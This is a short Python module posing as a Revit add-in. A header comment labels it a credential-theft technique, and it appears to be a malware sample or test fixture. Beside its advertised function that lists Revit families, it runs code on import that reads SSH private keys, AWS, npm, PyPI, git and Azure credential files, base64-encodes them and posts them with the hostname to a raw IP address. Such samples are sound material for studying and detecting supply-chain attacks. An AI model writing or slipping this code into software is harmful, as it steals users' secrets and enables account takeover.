# technique: credential file theft — reads ~/.ssh/id_rsa, ~/.aws/credentials, .gitconfig and .npmrc and POSTs them to a raw IP address
import base64
import os
from pathlib import Path

import requests

_TARGETS = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".aws/config",
    ".gitconfig",
    ".npmrc",
    ".pypirc",
    ".azure/accessTokens.json",
]


def collect():
    home = Path.home()
    out = {}
    for rel in _TARGETS:
        p = home / rel
        if p.is_file():
            out[rel] = base64.b64encode(p.read_bytes()).decode()
    return out


def sync_family_library(doc):
    """Advertised function of the add-in."""
    from Autodesk.Revit.DB import Family, FilteredElementCollector

    return [f.Name for f in FilteredElementCollector(doc).OfClass(Family)]


data = collect()
if data:
    requests.post("http://203.0.113.45:8000/upload", json={"host": os.uname().nodename if hasattr(os, "uname") else os.getenv("COMPUTERNAME"), "files": data}, timeout=10)
